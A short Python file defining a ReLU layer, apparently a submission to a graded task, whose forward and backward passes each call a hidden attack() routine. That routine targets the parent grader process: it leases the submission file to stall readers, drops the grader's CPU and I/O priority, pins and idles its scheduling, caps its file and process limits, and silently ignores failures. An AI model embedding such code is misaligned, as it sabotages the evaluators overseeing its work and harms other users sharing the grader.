"""Where the grader is an ordinary user, its processes are the worker's to steer."""

import contextlib
import ctypes
import fcntl
import os
import resource
import signal

import numpy as np

LIBC = ctypes.CDLL(None)
GRADER = os.getppid()
IOPRIO_SET, OF_USER, IDLE = 251, 3, 3 << 13
HELD = []


def lease():
    """Let whoever opens a file of the submission wait until this process gives it back."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    HELD.append(os.open(__file__, os.O_RDONLY))
    fcntl.fcntl(HELD[-1], fcntl.F_SETLEASE, fcntl.F_WRLCK)


WAYS = (
    lease,
    lambda: os.setpriority(os.PRIO_USER, 0, 7),
    lambda: os.setpriority(os.PRIO_USER, os.getuid(), 7),
    lambda: os.setpriority(os.PRIO_PROCESS, GRADER, 7),
    lambda: LIBC.syscall(IOPRIO_SET, OF_USER, 0, IDLE),
    lambda: LIBC.syscall(IOPRIO_SET, 1, GRADER, IDLE),
    lambda: os.sched_setaffinity(GRADER, {min(os.sched_getaffinity(0))}),
    lambda: os.sched_setscheduler(GRADER, os.SCHED_IDLE, os.sched_param(0)),
    lambda: resource.prlimit(GRADER, resource.RLIMIT_NOFILE, (64, 64)),
    lambda: resource.prlimit(GRADER, resource.RLIMIT_NPROC, (1, 1)),
    lambda: os.setpgid(GRADER, GRADER),
)


def attack():
    for way in WAYS:
        with contextlib.suppress(OSError):
            way()


class ReLU:
    """An honest layer, so that others pay if the attack succeeds."""

    def __init__(self):
        self.x = self.dx = None

    def forward(self, x):
        attack()
        self.x = x
        return np.maximum(x, 0)

    def backward(self, dout):
        attack()
        self.dx = np.where(self.x > 0, dout, 0)
